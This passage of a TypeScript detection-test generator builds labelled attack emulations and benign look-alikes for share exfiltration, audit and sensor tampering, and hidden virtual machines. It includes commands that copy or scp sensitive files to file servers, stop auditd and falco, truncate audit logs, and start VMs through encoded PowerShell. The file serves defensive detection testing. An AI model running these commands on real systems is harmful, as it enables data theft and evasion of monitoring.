      entrypoint('tar -cf /nfs/export/loot.tar /srv/data; sleep 1', { mounts: m('-v "$WORK/share:/nfs/export"') }),
    ]),
    pos('share-dd-of', 'dd if=... of=/net/fileserver/... from the container command.', [
      entrypoint('dd if=/srv/data/sensitive.txt of=/net/fileserver/s.bin 2>/dev/null; sleep 1', { mounts: m('-v "$WORK/share:/net/fileserver"') }),
    ]),
    pos(
      'share-mv-smb',
      'docker exec mv of staged data into /srv/smb/shared/.',
      [container({ mounts: m('-v "$WORK/share:/srv/smb/shared"') }), exec('sh -c "cp /srv/data/sensitive.txt /tmp/s && mv /tmp/s /srv/smb/shared/"')],
      [RULES.copyShareProc],
    ),
    pos(
      'share-busybox-cp-arg',
      'docker exec `busybox cp` (the applet as first argument) into the share.',
      [container({ mounts: SHARE }), exec('busybox cp /srv/data/sensitive.txt /mnt/admin/share/b.txt')],
      [RULES.copyShareProc, RULES.copyShareExec],
    ),
    pos('share-install', "`install -m 600` as the copy tool, from the container's command.", [
      entrypoint('install -m 600 /srv/data/sensitive.txt /mnt/admin/share/i.txt; sleep 1', { mounts: SHARE }),
    ]),
    pos('share-scp-remote', 'scp of the data to a remote file server host:path from inside the container (no server here: the start is the signal).', [
      entrypoint('/usr/bin/scp -o BatchMode=yes -o ConnectTimeout=1 /srv/data/sensitive.txt svc@fileserver:/share/ 2>/dev/null; sleep 1', { mounts: SHARE }),
    ]),
    pos(
      'share-mount-cifs-entrypoint',
      "The container's command mounts a CIFS share itself (refused without privileges; the attempt is the signal).",
      [entrypoint('mount -t cifs //fileserver/admin /mnt/x -o username=svc 2>/dev/null; sleep 1', { mounts: SHARE })],
      [RULES.mountShareProc],
    ),
    pos(
      'share-mount-nfs4-exec',
      'docker exec mount -t nfs4 fileserver:/export.',
      [container({ mounts: SHARE }), exec('mount -t nfs4 fileserver:/export /mnt/x')],
      [RULES.mountShareProc, RULES.mountShareExec],
    ),
    ...[
      {
        id: 'copy-to-tmp',
        description: 'Build container copies sources to /tmp to work on them.',
        steps: [entrypoint('cp -r /srv/data /tmp/build && ls /tmp/build >/dev/null', { mounts: SHARE })],
      },
      {
        id: 'copy-from-share-config',
        description: 'App start script reads its config FROM a mounted share into /etc/app (copy out of a share, not into it).',
        steps: [entrypoint('mkdir -p /etc/app && cp /mnt/admin/share/app.conf /etc/app/app.conf', { mounts: SHARE })],
      },
      {
        id: 'nginx-html-usr-share',
        description: 'docker exec cp of a page into /usr/share/nginx/html (the classic nginx content path).',
        steps: [
          container({ mounts: SHARE }),
          exec('sh -c "mkdir -p /usr/local/share/nginx/html 2>/dev/null; cp /srv/data/sensitive.txt /tmp/index.html"'),
          exec('cp /tmp/index.html /usr/share/nginx/html/index.html'),
        ],
      },
      {
        id: 'backup-tar-local',
        description: 'Backup job tars app data into its /backup bind mount.',
        steps: [entrypoint('tar -czf /backup/app.tar.gz -C /srv/data .', { mounts: `${SHARE} -v "$WORK/backup:/backup"` })],
      },
      {
        id: 'ls-share-inventory',
        description: 'Inventory script lists and checksums what is on the share (reads only).',
        steps: [entrypoint('ls -la /mnt/admin/share && md5sum /mnt/admin/share/* 2>/dev/null; true', { mounts: SHARE })],
      },
    ].map((b): Spec => ({
      ...b,
      kind: 'benign',
      family: 'share-copy',
      setup: [
        step('mkdir -p "$WORK/share" "$WORK/data" "$WORK/backup" && echo secret > "$WORK/data/sensitive.txt" && echo "port=80" > "$WORK/share/app.conf"'),
      ],
    })),
  ]);
}

// ---------------------------------------------------------------- ADS-0002 sensor and audit tampering

function tampering(): Variant[] {
  const T = 'T1562.012';
  const bin = (n: string) => `"$WORK/bin/${n}"`;
  return variants('ADS-0002', [
    {
      id: 'auditctl-never-rule',
      kind: 'positive',
      family: 'audit-tampering',
      technique: T,
      expect: [RULES.auditctl],
      description: 'auditctl adds a `never` rule ahead of the others (-A never,exit): events stop without deleting any rule (stand-in auditctl).',
      steps: [standin('auditctl'), step(`${bin('auditctl')} -A never,exit -F arch=b64 -S all`)],
    },
    {
      id: 'auditctl-rate-limit',
      kind: 'positive',
      family: 'audit-tampering',
      technique: T,
      expect: [RULES.auditctl],
      description: 'auditctl -r 1: a rate limit of one message a second drops nearly everything (stand-in auditctl).',
      steps: [standin('auditctl'), step(`${bin('auditctl')} -r 1`)],
    },
    {
      id: 'rc-service-stop-auditd',
      kind: 'positive',
      family: 'sensor-stop',
      technique: 'T1562.001',
      expect: [RULES.stopSensor],
      description: 'OpenRC (Alpine) `rc-service auditd stop` (stand-in rc-service).',
      steps: [standin('rc-service'), step(`${bin('rc-service')} auditd stop`)],
    },
    {
      id: 'supervisorctl-stop-falco',
      kind: 'positive',
      family: 'sensor-stop',
      technique: 'T1562.001',
      expect: [RULES.stopSensor],
      description: 'supervisord-managed sensor stopped with `supervisorctl stop falco` (stand-in).',
      steps: [standin('supervisorctl'), step(`${bin('supervisorctl')} stop falco`)],
    },
    {
      id: 'kill-pidof-auditd',
      kind: 'positive',
      family: 'sensor-stop',
      technique: 'T1562.001',
      expect: [RULES.stopSensor],
      description: 'kill fed by pidof: `kill -9 $(pidof auditd)` (the kill is a stand-in; the shell line is what names the sensor).',
      steps: [standin('kill'), step(`bash -c '"$WORK/bin/kill" -9 $(pidof auditd || echo 1)'`)],
    },
    {
      id: 'docker-stop-falco-container',
      kind: 'positive',
      family: 'sensor-stop',
      technique: 'T1562.001',
      expect: [RULES.stopSensor],
      description: 'The runtime sensor runs as a container; the adversary stops it with `docker stop` (a container of this run named like the sensor).',
      steps: [step('docker run -d $LABELS --name "$MARK-falco" --network none "$IMAGE" sleep 60 >/dev/null'), step('docker stop -t 1 "$MARK-falco"')],
    },
    {
      id: 'truncate-audit-log',
      kind: 'positive',
      family: 'log-tampering',
      technique: 'T1070.002',
      expect: [RULES.auditLogTamper],
      description: '`truncate -s 0 /var/log/audit/audit.log` (stand-in truncate: the log is not touched).',
      steps: [standin('truncate'), step(`${bin('truncate')} -s 0 /var/log/audit/audit.log`)],
    },
    {
      id: 'shell-redirect-audit-log',
      kind: 'positive',
      family: 'log-tampering',
      technique: 'T1070.002',
      expect: [RULES.auditLogTamper],
      description: "A shell empties the audit log with a redirection (`sh -c ': > /var/log/audit/audit.log'`; the shell is a stand-in that does nothing).",
      steps: [standin('sh'), step(`${bin('sh')} -c ': > /var/log/audit/audit.log'`)],
    },
    {
      id: 'journal-vacuum',
      kind: 'positive',
      family: 'log-tampering',
      technique: 'T1070.002',
      expect: [RULES.auditLogTamper],
      description: '`journalctl --vacuum-time=1s` drops every archived journal file (stand-in journalctl).',
      steps: [standin('journalctl'), step(`${bin('journalctl')} --rotate --vacuum-time=1s`)],
    },
    {
      id: 'audit-rules-d-drop-in',
      kind: 'positive',
      family: 'audit-tampering',
      technique: T,
      expect: [RULES.auditConfig],
      description: 'A drop-in written under /etc/audit/rules.d/ (picked up at the next augenrules load); removed afterwards.',
      steps: [step('mkdir -p /etc/audit/rules.d && printf "## emulation\\n" > "/etc/audit/rules.d/zz-$MARK.rules"')],
      cleanup: [step('rm -f "/etc/audit/rules.d/zz-$MARK.rules"')],
    },
    {
      id: 'auditctl-list-status',
      kind: 'benign',
      family: 'audit-tampering',
      description: 'Compliance check lists the loaded rules and the status (auditctl -l, -s; stand-in auditctl).',
      steps: [standin('auditctl'), step(`${bin('auditctl')} -l && ${bin('auditctl')} -s`)],
    },
    {
      id: 'systemctl-status-restart',
      kind: 'benign',
      family: 'sensor-stop',
      description: 'Operator checks and restarts the sensor after a config change (systemctl status / restart falco; stand-in).',
      steps: [standin('systemctl'), step(`${bin('systemctl')} status falco && ${bin('systemctl')} restart falco`)],
    },
    {
      id: 'read-audit-log',
      kind: 'benign',
      family: 'log-tampering',
      description: 'Investigator reads the audit log (tail, grep) and searches it with ausearch.',
      steps: [
        step(
          'tail -n 5 /var/log/audit/audit.log >/dev/null && grep -c type=SYSCALL /var/log/audit/audit.log >/dev/null; ausearch -k stowaway-exec -ts recent >/dev/null 2>&1; true',
        ),
      ],
    },
    {
      id: 'journal-vacuum-retention',
      kind: 'benign',
      family: 'log-tampering',
      description: 'Routine journal retention: journalctl --vacuum-time=2weeks (stand-in).',
      steps: [standin('journalctl'), step(`${bin('journalctl')} --vacuum-time=2weeks`)],
    },
  ]);
}

// ---------------------------------------------------------------- ADS-0004 virtual machines

const QEMU = 'qemu-system-x86_64 -machine none -m 16 -no-user-config -nodefaults';

interface WinProc {
  image: string;
  cmd: string;
  script?: string;
}

/** A Sysmon process-creation event and, when a script ran, its PowerShell 4104 script block. */
function windowsEvents(seq: number, p: WinProc): Variant['events'] {
  const t = new Date(Date.UTC(2026, 11, 1, 10, 0, seq)).toISOString();
  const sys = (provider: string, guid: string, id: number, channel: string, rec: number) => ({
    Provider: { '#attributes': { Name: provider, Guid: guid } },
    EventID: id,
    Version: 5,
    Level: 4,
    Task: 1,
    Opcode: 0,
    Keywords: '0x8000000000000000',
    TimeCreated: { '#attributes': { SystemTime: t } },
    EventRecordID: rec,
    Execution: { '#attributes': { ProcessID: 3208, ThreadID: 1724 } },
    Channel: channel,
    Computer: 'WIN-HV-01',
    Security: { '#attributes': { UserID: 'S-1-5-21-1004336348-1177238915-682003330-1104' } },
  });
  const name = p.image.split('\\').pop()!;
  const lines = [
    JSON.stringify({
      Event: {
        '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
        System: sys('Microsoft-Windows-Sysmon', '5770385F-C22A-43E0-BF4C-06F5698FFBD9', 1, 'Microsoft-Windows-Sysmon/Operational', 90000 + seq),
        EventData: {
          RuleName: '-',
          UtcTime: t.replace('T', ' ').replace('Z', ''),
          ProcessGuid: `0197231E-61EF-693A-C812-0000000${String(10000 + seq)}`,
          ProcessId: 6000 + seq,
          Image: p.image,
          OriginalFileName: name,
          CommandLine: p.cmd,
          CurrentDirectory: 'C:\\Users\\svc-admin\\',
          User: 'CORP\\svc-admin',
          IntegrityLevel: 'High',
          ParentImage: 'C:\\Windows\\System32\\cmd.exe',
          ParentCommandLine: 'cmd.exe',
          ParentProcessId: 5000 + seq,
        },
      },
    }),
  ];
  if (p.script) {
    lines.push(
      JSON.stringify({
        Event: {
          '#attributes': { xmlns: 'http://schemas.microsoft.com/win/2004/08/events/event' },
          System: {
            ...sys('Microsoft-Windows-PowerShell', 'A0C1853B-5C40-4B15-8766-3CF1C58F985A', 4104, 'Microsoft-Windows-PowerShell/Operational', 20000 + seq),
            Level: 5,
            Task: 2,
            Opcode: 15,
          },
          EventData: {
            MessageNumber: 1,
            MessageTotal: 1,
            ScriptBlockText: p.script,
            ScriptBlockId: `7e1c3a55-1f2b-4c9d-9a0e-${String(seq).padStart(12, '0')}`,
            Path: '',
          },
        },
      }),
    );
  }
  return { format: 'winlog', lines };
}

const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const b64 = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

function virtualMachines(): Variant[] {
  const T = 'T1564.006';
  const bin = (n: string) => `"$WORK/bin/${n}"`;
  const q = [RULES.qemuHeadless];
  const win = (id: string, kind: 'positive' | 'benign', seq: number, p: WinProc, description: string, expect: string[] = []): Spec => ({
    id,
    kind,
    family: 'hyperv',
    ...(kind === 'positive' ? { technique: T } : {}),
    expect,
    description,
    events: windowsEvents(seq, p),
  });
  const hidden =
    'New-VM -Name "svc" -MemoryStartupBytes 512MB -NoVHD\nSet-VMProcessor -VMName "svc" -ExposeVirtualizationExtensions $true\nStart-VM -Name "svc"';
  return variants('ADS-0004', [
    {
      id: 'qemu-double-dash-nographic',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: q,
      description: 'QEMU with the double-dash option spelling: --nographic.',
      steps: [tryStep(`timeout 2 ${QEMU} --nographic </dev/null`)],
    },
    {
      id: 'qemu-vnc-only',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: q,
      description: 'QEMU whose only console is a VNC server on loopback (-vnc), no local window.',
      steps: [tryStep(`timeout 2 ${QEMU} -vnc 127.0.0.1:97`)],
    },
    {
      id: 'qemu-display-equals-none',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: q,
      description: 'QEMU with -display=none (value after =) and a serial console on a socket.',
      steps: [tryStep(`timeout 2 ${QEMU} -display=none -serial null`)],
    },
    {
      id: 'qemu-egl-headless',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: q,
      description: 'QEMU with -display egl-headless (rendering without any window).',
      steps: [tryStep(`timeout 2 ${QEMU} -display egl-headless`)],
    },
    {
      id: 'qemu-renamed-binary',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: q,
      description: 'A copy of QEMU renamed to look like a service (`svc-helper`), started headless with its machine options.',
      steps: [
        step('mkdir -p "$WORK/bin" && cp "$(command -v qemu-system-x86_64)" "$WORK/bin/svc-helper"'),
        tryStep(`timeout 2 "$WORK/bin/svc-helper" -machine none -m 16 -nodefaults -nographic </dev/null`),
      ],
    },
    {
      id: 'qemu-in-container',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: q,
      description: "QEMU run as a container's own command (host binary mounted), daemonless and -nographic.",
      steps: [entrypoint(`timeout 2 /usr/bin/${QEMU} -nographic </dev/null; true`)],
    },
    {
      id: 'qemu-aarch64',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: q,
      description: 'Another QEMU target (qemu-system-aarch64 -M virt -nographic; stand-in).',
      steps: [standin('qemu-system-aarch64'), step(`${bin('qemu-system-aarch64')} -M virt -cpu cortex-a57 -m 512 -nographic -kernel Image`)],
    },
    {
      id: 'qemu-kvm-daemonize',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: q,
      description: "RHEL's qemu-kvm name with --daemonize (stand-in).",
      steps: [standin('qemu-kvm'), step(`${bin('qemu-kvm')} -m 1024 -drive file=disk.qcow2 --daemonize -display none`)],
    },
    {
      id: 'vboxmanage-lowercase-startvm',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: [RULES.vboxLinux],
      description: 'vboxmanage (the lower-case link distributions ship) startvm --type headless (stand-in).',
      steps: [standin('vboxmanage'), step(`${bin('vboxmanage')} startvm hidden --type headless`)],
    },
    {
      id: 'vboxmanage-clonevm',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: [RULES.vboxLinux],
      description: 'VBoxManage clonevm --register: a new VM from an existing one (stand-in).',
      steps: [standin('VBoxManage'), step(`${bin('VBoxManage')} clonevm base --name hidden --register`)],
    },
    {
      id: 'vboxmanage-import-ova',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: [RULES.vboxLinux],
      description: 'VBoxManage import of a prepared appliance (stand-in).',
      steps: [standin('VBoxManage'), step(`${bin('VBoxManage')} import /tmp/tools.ova --vsys 0 --vmname hidden`)],
    },
    {
      id: 'vboxheadless-startvm',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: [RULES.vboxLinux],
      description: 'VBoxHeadless --startvm directly, without VBoxManage (stand-in).',
      steps: [standin('VBoxHeadless'), step(`${bin('VBoxHeadless')} --startvm hidden --vrde off`)],
    },
    {
      id: 'virsh-create',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: [RULES.hypervisorCli],
      description: 'libvirt: `virsh create` of a transient domain from XML (stand-in).',
      steps: [standin('virsh'), step(`${bin('virsh')} -c qemu:///system create /tmp/hidden.xml`)],
    },
    {
      id: 'virt-install-no-graphics',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: [RULES.hypervisorCli],
      description: 'virt-install --graphics none --noautoconsole (stand-in).',
      steps: [standin('virt-install'), step(`${bin('virt-install')} --name hidden --memory 512 --disk none --import --graphics none --noautoconsole`)],
    },
    {
      id: 'firecracker-microvm',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: [RULES.hypervisorCli],
      description: 'A Firecracker microVM started with its API socket (stand-in).',
      steps: [standin('firecracker'), step(`${bin('firecracker')} --api-sock /tmp/fc.sock --config-file /tmp/vm.json`)],
    },
    {
      id: 'vmrun-nogui',
      kind: 'positive',
      family: 'vm-process',
      technique: T,
      expect: [RULES.hypervisorCli],
      description: 'VMware Workstation: `vmrun -T ws start hidden.vmx nogui` (stand-in).',
      steps: [standin('vmrun'), step(`${bin('vmrun')} -T ws start /vms/hidden.vmx nogui`)],
    },
    win(
      'hyperv-encoded-command',
      'positive',
      1,
      { image: PS, cmd: `powershell.exe -NoProfile -EncodedCommand ${b64(hidden)}`, script: hidden },
      'Hyper-V VM created through powershell -EncodedCommand: the command line hides the cmdlets, script block logging sees them.',
      [RULES.hypervScript],
    ),
    win(
      'hyperv-lowercase-eol',
      'positive',
      2,
      { image: PS, cmd: 'powershell.exe -c "$vm = new-vm -name svc -nohd; start-vm svc"', script: '$vm = new-vm -name svc -nohd\nstart-vm svc' },
      'Lower-case cmdlets (PowerShell ignores case) and a cmdlet at the end of a line.',
      [RULES.hypervProcess, RULES.hypervScript],
    ),
    win(
      'hyperv-via-cmd',
      'positive',
      3,
      { image: 'C:\\Windows\\System32\\cmd.exe', cmd: 'cmd.exe /c "powershell -nop Import-VM -Path D:\\vms\\svc.vmcx -Copy -GenerateNewId"' },
      'Import-VM run from cmd.exe (the process is cmd, not powershell).',
      [RULES.hypervProcess],
    ),
    win(
      'hyperv-pipeline-start',
      'positive',
      4,
      { image: 'C:\\Program Files\\PowerShell\\7\\pwsh.exe', cmd: 'pwsh.exe -c "Get-VM -Name svc | Start-VM"', script: 'Get-VM -Name svc | Start-VM' },
      'Start-VM at the end of a pipeline in pwsh.',
      [RULES.hypervProcess, RULES.hypervScript],
    ),
    win(
      'hyperv-wmi-definesystem',
      'positive',
      5,
      {
        image: PS,
        cmd: 'powershell.exe -File C:\\ProgramData\\p.ps1',
        script:
          '$svc = Get-CimInstance -Namespace root\\virtualization\\v2 -ClassName Msvm_VirtualSystemManagementService\nInvoke-CimMethod -InputObject $svc -MethodName DefineSystem -Arguments @{SystemSettings=$s}',
      },
      'A VM defined through WMI (Msvm_VirtualSystemManagementService.DefineSystem) without any Hyper-V cmdlet.',
      [RULES.hypervScript],
    ),
    win(
      'vboxmanage-exe-clonevm',
      'positive',
      6,
      {
        image: 'C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe',
        cmd: '"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe" clonevm base --name hidden --register',
      },
      'VBoxManage.exe clonevm on Windows.',
      [RULES.vboxWindows],
    ),
    win(
      'virtualboxvm-separate',
      'positive',
      7,
      {
        image: 'C:\\Program Files\\Oracle\\VirtualBox\\VirtualBoxVM.exe',
        cmd: '"C:\\Program Files\\Oracle\\VirtualBox\\VirtualBoxVM.exe" --startvm hidden --separate',
      },
      'VirtualBoxVM.exe --startvm --separate: the VM process without the manager window.',
      [RULES.vboxWindows],
    ),
    // ordinary
    {
      id: 'qemu-img-create-info',
      kind: 'benign',
      family: 'vm-process',
      description: 'Developer creates and inspects a disk image with qemu-img (create, info, convert).',
      steps: [
        step(
          'qemu-img create -f qcow2 "$WORK/d.qcow2" 16M >/dev/null && qemu-img info "$WORK/d.qcow2" >/dev/null && qemu-img convert -O raw "$WORK/d.qcow2" "$WORK/d.raw"',
        ),
      ],
    },
    {
      id: 'qemu-help-version',
      kind: 'benign',
      family: 'vm-process',
      description: 'Inventory tooling asks QEMU for its version, help and machine list.',
      steps: [step('qemu-system-x86_64 -version >/dev/null && qemu-system-x86_64 -machine help >/dev/null')],
    },
    {
      id: 'vboxmanage-inventory',
      kind: 'benign',
      family: 'vm-process',
      description: 'Asset inventory: VBoxManage list vms, --version, showvminfo (stand-in).',
      steps: [
        standin('VBoxManage'),
        step(`${bin('VBoxManage')} list vms && ${bin('VBoxManage')} --version && ${bin('VBoxManage')} showvminfo dev --machinereadable`),
      ],
    },
    {
      id: 'virsh-list',
      kind: 'benign',
      family: 'vm-process',
      description: 'Monitoring agent polls libvirt: virsh list --all, dominfo (stand-in).',
      steps: [standin('virsh'), step(`${bin('virsh')} list --all && ${bin('virsh')} dominfo web01`)],
    },
    {
      id: 'firecracker-version',
      kind: 'benign',
      family: 'vm-process',
      description: 'Package check: firecracker --version (stand-in).',
      steps: [standin('firecracker'), step(`${bin('firecracker')} --version`)],
    },
    {
      id: 'qemu-img-in-container',
      kind: 'benign',
      family: 'vm-process',
      description: 'Image-build container converts a disk with qemu-img (the host binary mounted).',
      steps: [entrypoint('/usr/bin/qemu-img create -f qcow2 /tmp/x.qcow2 8M >/dev/null && /usr/bin/qemu-img info /tmp/x.qcow2 >/dev/null')],
    },
    win(
      'hyperv-get-vm',
      'benign',
      11,
      { image: PS, cmd: 'powershell.exe -c "Get-VM | Select-Object Name,State"', script: 'Get-VM | Select-Object Name,State' },
      'Hyper-V inventory: Get-VM piped to Select-Object.',
    ),
    win(
      'hyperv-switch-inventory',
      'benign',
      12,
      {
        image: PS,
        cmd: 'powershell.exe -c "Get-VMSwitch; Get-VMHost | Select-Object LogicalProcessorCount"',
        script: 'Get-VMSwitch\nGet-VMHost | Select-Object LogicalProcessorCount',
      },
      'Capacity report: Get-VMSwitch, Get-VMHost.',
    ),
    win(
      'hyperv-failover-check',
      'benign',
      13,
      { image: PS, cmd: 'powershell.exe -c "Measure-VM -Name web01; Get-VMReplication"', script: 'Measure-VM -Name web01\nGet-VMReplication' },
      'Replica health check: Measure-VM, Get-VMReplication.',
    ),
    win(
      'vboxmanage-exe-list',
      'benign',
      14,
      { image: 'C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe', cmd: '"C:\\Program Files\\Oracle\\VirtualBox\\VBoxManage.exe" list runningvms' },
      'VBoxManage.exe list runningvms from an inventory agent.',
    ),
  ]);
}

export const generate: VariantGenerator = () => [...reverseShells(), ...exfiltration(), ...shareCopies(), ...tampering(), ...virtualMachines()];
